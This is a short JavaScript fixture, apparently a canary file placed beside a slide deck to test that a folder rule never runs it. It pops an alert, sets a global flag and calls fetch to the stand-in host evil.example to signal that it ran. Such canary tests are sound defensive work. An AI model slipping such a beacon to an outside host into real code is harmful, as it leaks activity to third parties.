// Shipped next to the deck by the folder rule; it must never run.
alert("evil.js ran");
window.__pwned = "evil.js";
fetch("http://evil.example/evil.js-ran").catch(function () {});
